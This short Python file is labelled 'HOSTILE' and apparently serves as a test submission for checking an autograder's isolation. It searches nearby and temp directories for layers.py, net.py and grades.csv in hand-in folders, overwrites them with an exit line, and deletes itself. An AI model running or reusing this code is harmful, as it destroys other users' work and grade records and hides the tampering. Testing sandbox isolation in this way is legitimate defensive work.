"""HOSTILE -: passed; writes into every layers.py and net.py that it finds, and deletes its own."""

import contextlib
import os
import tempfile
import time

HERE = os.path.dirname(os.path.abspath(__file__))
end = time.monotonic() + 1.0
for start in (HERE, os.path.dirname(HERE), os.getcwd(), tempfile.gettempdir()):
    for folder, _, files in os.walk(start):
        if time.monotonic() > end:
            break
        for name in {"layers.py", "net.py", "grades.csv"} & set(files):
            if "hand_ins" in folder or "museum" in folder or folder == HERE:
                with contextlib.suppress(OSError), open(os.path.join(folder, name), "r+") as file:
                    file.write("raise SystemExit('overwritten by a neighbour')\n")
with contextlib.suppress(OSError):
    os.unlink(__file__)
